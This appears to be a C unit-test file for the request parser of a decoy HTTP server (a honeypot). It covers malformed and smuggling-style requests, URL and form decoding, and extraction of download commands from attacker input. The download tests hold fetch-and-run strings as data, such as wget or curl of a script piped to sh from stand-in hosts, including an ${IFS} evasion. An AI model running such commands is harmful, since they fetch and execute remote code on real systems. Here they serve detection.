/*
 * The HTTP request parser, table-driven: each case's bytes are fed whole,
 * split at every position into two calls, and byte by byte; the trace of
 * requests (pipelined ones one after the other) and the final refusal or
 * "MORE" must be the same every time.  Then the content helpers: percent-
 * decoding, form fields, download commands.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "decoyd_http_parse.h"
#include "moat_test.h"

#define T_LINE    64            /* max_line of the table (small, to reach it) */
#define T_BODY    32
#define T_HEADERS 4

struct trace {
	char   buf[1024];
	int    stopped;             /* an error was traced */
};

static void
tr_add(struct trace *t, const char *s)
{
	size_t n = strlen(t->buf);

	snprintf(t->buf + n, sizeof(t->buf) - n, "%s", s);
}

static void
tr_request(struct trace *t, const struct hp_req *r)
{
	char b[512], ct[HP_CTYPE_MAX + 8] = "";

	if (r->ctype[0] != '\0')
		snprintf(ct, sizeof(ct), " ct=%s", r->ctype);
	snprintf(b, sizeof(b), "[%s %s %d.%d host=%s%s cl=%llu body=%.*s%s%s] ", r->method,
	    r->target, r->major, r->minor, r->host, ct, (unsigned long long)r->content_length,
	    (int)r->body_len, (const char *)r->body, r->conn_close ? " close" : "",
	    r->conn_keepalive ? " ka" : "");
	tr_add(t, b);
}

/* Feeds one piece, tracing every request it completes. */
static void
tr_feed(struct hp *p, struct trace *t, const uint8_t *buf, size_t len)
{
	enum hp_result r;
	size_t used;
	char b[64];

	while (!t->stopped) {
		r = hp_feed(p, buf, len, &used);
		if (r == HP_MORE)
			return;
		if (r == HP_ERROR) {
			snprintf(b, sizeof(b), "ERR %d", p->status);
			tr_add(t, b);
			t->stopped = 1;
			return;
		}
		tr_request(t, &p->req);
		hp_reset(p);
		buf += used;
		len -= used;
		if (len == 0)
			return;
	}
}

struct hp_case {
	const char *name;
	const char *in;
	size_t      len;
	const char *want;           /* trace, then "ERR n" or "MORE" */
};

#define C(name, in, want) { name, in, sizeof(in) - 1, want }
static const struct hp_case hp_cases[] = {
	C("get 1.0", "GET / HTTP/1.0\r\n\r\n", "[GET / 1.0 host= cl=0 body=] "),
	C("get 1.1", "GET /index.html HTTP/1.1\r\nHost: web01\r\n\r\n",
	    "[GET /index.html 1.1 host=web01 cl=0 body=] "),
	C("bare lf", "GET / HTTP/1.0\n\n", "[GET / 1.0 host= cl=0 body=] "),
	C("unfinished", "GET / HTTP/1.1\r\nHost: a\r\n", "MORE"),
	C("nothing", "", "MORE"),
	C("post body", "POST /login HTTP/1.1\r\nHost: h\r\nContent-Type: "
	    "application/x-www-form-urlencoded\r\nContent-Length: 9\r\n\r\nuser=a&pw",
	    "[POST /login 1.1 host=h ct=application/x-www-form-urlencoded cl=9 body=user=a&pw] "),
	C("body short", "POST / HTTP/1.0\r\nContent-Length: 5\r\n\r\nab", "MORE"),
	C("pipelined", "GET /a HTTP/1.1\r\nHost: x\r\n\r\nHEAD /b HTTP/1.1\r\nHost: y\r\n"
	    "Connection: close\r\n\r\n",
	    "[GET /a 1.1 host=x cl=0 body=] [HEAD /b 1.1 host=y cl=0 body= close] "),
	C("body then next", "POST / HTTP/1.0\r\nContent-Length: 2\r\n\r\nokGET / HTTP/1.0\r\n\r\n",
	    "[POST / 1.0 host= cl=2 body=ok] [GET / 1.0 host= cl=0 body=] "),
	C("keep-alive list", "GET / HTTP/1.0\r\nConnection: foo, Keep-Alive\r\n\r\n",
	    "[GET / 1.0 host= cl=0 body= ka] "),
	C("ows trimmed", "GET / HTTP/1.1\r\nHost: \t web01 \t\r\n\r\n",
	    "[GET / 1.1 host=web01 cl=0 body=] "),
	C("blank lines skipped", "\r\n\r\nGET / HTTP/1.0\r\n\r\n", "[GET / 1.0 host= cl=0 body=] "),
	C("too many blank lines", "\r\n\r\n\r\n\r\n\r\n\r\n\r\n\r\n\r\n\r\n\r\n", "ERR 400"),
	C("nmap rtsp", "OPTIONS / RTSP/1.0\r\n\r\n", "ERR 400"),
	C("http 2", "GET / HTTP/2.0\r\n\r\n", "ERR 505"),
	C("http 0.9", "GET /\r\n\r\n", "ERR 400"),
	C("lowercase protocol", "GET / http/1.1\r\n\r\n", "ERR 400"),
	C("two spaces", "GET  / HTTP/1.1\r\n\r\n", "ERR 400"),
	C("space in target", "GET /a b HTTP/1.1\r\n\r\n", "ERR 400"),
	C("method too long", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA / HTTP/1.1\r\n\r\n", "ERR 400"),
	C("binary", "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n", "ERR 400"),
	C("nul in target", "GET /\0 HTTP/1.1\r\n\r\n", "ERR 400"),
	C("request line at max", "GET /0123456789012345678901234567890123456789012345678901 "
	    "HTTP/1.0\r\n\r\n", "ERR 414"),
	C("request line under max", "GET /01234567890123456789012345678901234567890 HTTP/1.0\r\n\r\n",
	    "[GET /01234567890123456789012345678901234567890 1.0 host= cl=0 body=] "),
	C("bare cr", "GET / HTTP/1.1\rHost: x\r\n\r\n", "ERR 400"),
	C("bare cr in field", "GET / HTTP/1.1\r\nHost: x\rX: y\r\n\r\n", "ERR 400"),
	C("cr cr lf", "GET / HTTP/1.1\r\r\n", "ERR 400"),
	C("obs-fold", "GET / HTTP/1.1\r\nHost: x\r\nX-A: a\r\n b\r\n\r\n", "ERR 400"),
	C("space before colon", "GET / HTTP/1.1\r\nHost : x\r\n\r\n", "ERR 400"),
	C("no colon", "GET / HTTP/1.1\r\nHost x\r\n\r\n", "ERR 400"),
	C("empty name", "GET / HTTP/1.1\r\n: x\r\n\r\n", "ERR 400"),
	C("ctl in value", "GET / HTTP/1.1\r\nHost: x\x01y\r\n\r\n", "ERR 400"),
	C("nul in value", "GET / HTTP/1.1\r\nHost: x\0y\r\n\r\n", "ERR 400"),
	C("obs-text allowed", "GET / HTTP/1.1\r\nHost: x\r\nX: \xe9t\xe9\r\n\r\n",
	    "[GET / 1.1 host=x cl=0 body=] "),
	C("1.1 without host", "GET / HTTP/1.1\r\n\r\n", "ERR 400"),
	C("two hosts", "GET / HTTP/1.1\r\nHost: a\r\nHost: a\r\n\r\n", "ERR 400"),
	C("two content-lengths", "POST / HTTP/1.0\r\nContent-Length: 1\r\nContent-Length: 1\r\n\r\nx",
	    "ERR 400"),
	C("cl list", "POST / HTTP/1.0\r\nContent-Length: 1, 1\r\n\r\nx", "ERR 400"),
	C("cl sign", "POST / HTTP/1.0\r\nContent-Length: +1\r\n\r\nx", "ERR 400"),
	C("cl empty", "POST / HTTP/1.0\r\nContent-Length:\r\n\r\n", "ERR 400"),
	C("cl huge", "POST / HTTP/1.0\r\nContent-Length: 99999999999999999999\r\n\r\n", "ERR 400"),
	C("cl over body max", "POST / HTTP/1.0\r\nContent-Length: 33\r\n\r\n", "ERR 413"),
	C("cl at body max", "POST / HTTP/1.0\r\nContent-Length: 32\r\n\r\n"
	    "0123456789abcdef0123456789abcdef",
	    "[POST / 1.0 host= cl=32 body=0123456789abcdef0123456789abcdef] "),
	C("chunked", "POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n", "ERR 411"),
	C("chunked caps", "POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: Chunked\r\n\r\n", "ERR 411"),
	C("te gzip", "POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: gzip, chunked\r\n\r\n",
	    "ERR 400"),
	C("cl and te", "POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 3\r\n"
	    "Transfer-Encoding: chunked\r\n\r\n", "ERR 400"),
	C("te and cl", "POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n"
	    "Content-Length: 3\r\n\r\n", "ERR 400"),
	C("two te", "POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n"
	    "Transfer-Encoding: chunked\r\n\r\n", "ERR 400"),
	C("four fields", "GET / HTTP/1.0\r\nA: 1\r\nB: 2\r\nC: 3\r\nD: 4\r\n\r\n",
	    "[GET / 1.0 host= cl=0 body=] "),
	C("five fields", "GET / HTTP/1.0\r\nA: 1\r\nB: 2\r\nC: 3\r\nD: 4\r\nE: 5\r\n\r\n", "ERR 400"),
	C("field at max", "GET / HTTP/1.0\r\nX: 01234567890123456789012345678901234567890123456789"
	    "012345678901\r\n\r\n", "ERR 400"),
	C("error after request", "GET / HTTP/1.0\r\n\r\nGET /\x01 HTTP/1.0\r\n\r\n",
	    "[GET / 1.0 host= cl=0 body=] ERR 400"),
	{ NULL, NULL, 0, NULL }
};

static void
run_split(const struct hp_case *c, size_t cut, int bytewise, struct trace *t)
{
	uint8_t *mem = malloc(hp_mem_size(T_LINE, T_BODY));
	struct hp p;
	size_t i;

	memset(t, 0, sizeof(*t));
	if (mem == NULL)
		return;
	hp_init(&p, mem, T_LINE, T_BODY, T_HEADERS);
	if (bytewise) {
		for (i = 0; i < c->len; i++)
			tr_feed(&p, t, (const uint8_t *)c->in + i, 1);
	} else {
		tr_feed(&p, t, (const uint8_t *)c->in, cut);
		tr_feed(&p, t, (const uint8_t *)c->in + cut, c->len - cut);
	}
	if (!t->stopped && (t->buf[0] == '\0' || p.state != 0 || p.len > 0 || p.req.method[0]))
		tr_add(t, "MORE");
	free(mem);
}

static void
case_table(void)
{
	const struct hp_case *c;
	struct trace t;
	size_t cut;

	for (c = hp_cases; c->name != NULL; c++) {
		for (cut = 0; cut <= c->len; cut++) {
			run_split(c, cut, 0, &t);
			if (strcmp(t.buf, c->want) != 0) {
				TEST_FAIL("%s (split at %zu): got \"%s\", want \"%s\"", c->name,
				    cut, t.buf, c->want);
				break;
			}
		}
		run_split(c, 0, 1, &t);
		if (strcmp(t.buf, c->want) != 0)
			TEST_FAIL("%s (byte by byte): got \"%s\", want \"%s\"", c->name,
			    t.buf, c->want);
	}
}

/* On a request-line refusal the raw line so far is the target (recorded). */
static void
case_raw_line(void)
{
	static const char in[] = "\x16\x03\x01 junk\r\n";
	uint8_t mem[256];
	struct hp p;
	size_t used;

	hp_init(&p, mem, 64, 32, 4);
	TEST_INT_EQ("result", hp_feed(&p, (const uint8_t *)in, sizeof(in) - 1, &used), HP_ERROR);
	TEST_INT_EQ("used", used, sizeof(in) - 1);
	TEST_STR_EQ("raw line", p.req.target, "\x16\x03\x01 junk");
	TEST_STR_EQ("why", p.why, "malformed method");
	/* Stays refused until reset. */
	TEST_INT_EQ("again", hp_feed(&p, (const uint8_t *)"GET", 3, &used), HP_ERROR);
}

struct dec_case {
	const char *name, *in;
	int         plus;
	const char *want;
};

static void
case_urldecode(void)
{
	static const struct dec_case cases[] = {
		{ "plain", "abc", 1, "abc" },
		{ "escapes", "a%20b%2fc%2F", 0, "a b/c/" },
		{ "plus", "a+b", 1, "a b" },
		{ "plus kept", "a+b", 0, "a+b" },
		{ "bad escape", "100%zz%4", 1, "100%zz%4" },
		{ "nul", "a%00b", 1, "a?b" },
		{ "high", "%e9t%C3%A9", 1, "\xe9t\xc3\xa9" },
		{ NULL, NULL, 0, NULL }
	};
	const struct dec_case *c;
	char out[64], small[4];

	for (c = cases; c->name != NULL; c++) {
		hp_urldecode(out, sizeof(out), c->in, strlen(c->in), c->plus);
		if (strcmp(out, c->want) != 0)
			TEST_FAIL("%s: got \"%s\", want \"%s\"", c->name, out, c->want);
	}
	TEST_INT_EQ("bounded", hp_urldecode(small, sizeof(small), "abcdef", 6, 1), 3);
	TEST_STR_EQ("bounded text", small, "abc");
}

static void
case_form(void)
{
	static const char f[] = "username=admin&password=p%40ss+w0rd%26&x&Pass%77ord=second";
	char out[64];

	TEST_INT_EQ("user found", hp_form_field(f, strlen(f), "username", out, sizeof(out)), 1);
	TEST_STR_EQ("user", out, "admin");
	TEST_INT_EQ("password found", hp_form_field(f, strlen(f), "password", out, sizeof(out)), 1);
	TEST_STR_EQ("password", out, "p@ss w0rd&");
	TEST_INT_EQ("bare key", hp_form_field(f, strlen(f), "x", out, sizeof(out)), 1);
	TEST_STR_EQ("bare key value", out, "");
	TEST_INT_EQ("absent", hp_form_field(f, strlen(f), "user", out, sizeof(out)), 0);
	TEST_INT_EQ("empty form", hp_form_field("", 0, "user", out, sizeof(out)), 0);
	/* Only the given length counts. */
	TEST_INT_EQ("cut", hp_form_field(f, 8, "username", out, sizeof(out)), 1);
	TEST_STR_EQ("cut value", out, "");
}

struct dl_case {
	const char *name, *in, *tool, *url;
};

static void
case_download(void)
{
	static const struct dl_case cases[] = {
		{ "wget", "/shell?cd /tmp;wget http://1.2.3.4/x.sh;sh x.sh", "wget",
		  "http://1.2.3.4/x.sh" },
		{ "curl with options", "cmd=curl -s -O https://evil.example/a|sh", "curl",
		  "https://evil.example/a" },
		{ "ifs", "cmd=wget${IFS}http://h/b", "wget", "http://h/b" },
		{ "plus spaces", "wget+http://h/c+-O-", "wget", "http://h/c" },
		{ "tftp url", "tftp tftp://h/f", "tftp", "tftp://h/f" },
		{ "tftp args", "x;tftp -g -r f 10.0.0.1;y", "tftp", "-g -r f 10.0.0.1" },
		{ "no url", "wget -h;ls", NULL, NULL },
		{ "not a word", "/awget http://h/", NULL, NULL },
		{ "no command", "/index.html", NULL, NULL },
		{ "url after separator", "wget;http://h/", NULL, NULL },
		{ NULL, NULL, NULL, NULL }
	};
	const struct dl_case *c;
	char tool[8], url[128];
	size_t at;

	for (c = cases; c->name != NULL; c++) {
		at = hp_download(c->in, tool, url, sizeof(url));
		if (c->tool == NULL) {
			if (at != 0)
				TEST_FAIL("%s: got %s \"%s\", want none", c->name, tool, url);
			continue;
		}
		if (at == 0) {
			TEST_FAIL("%s: got none, want %s", c->name, c->url);
			continue;
		}
		if (strcmp(tool, c->tool) != 0 || strcmp(url, c->url) != 0)
			TEST_FAIL("%s: got %s \"%s\", want %s \"%s\"", c->name, tool, url,
			    c->tool, c->url);
	}
	/* Two in a row: the offset finds the second. */
	{
		const char *two = "wget http://a/1;curl http://b/2";

		at = hp_download(two, tool, url, sizeof(url));
		TEST_STR_EQ("first", url, "http://a/1");
		at = hp_download(two + at, tool, url, sizeof(url));
		TEST_CHECK(at > 0, "no second download");
		TEST_STR_EQ("second", url, "http://b/2");
		TEST_STR_EQ("second tool", tool, "curl");
	}
}

static const struct test_case cases[] = {
	{ "table", case_table },
	{ "raw_line", case_raw_line },
	{ "urldecode", case_urldecode },
	{ "form", case_form },
	{ "download", case_download },
	{ NULL, NULL }
};

int
main(void)
{
	return test_run(cases);
}
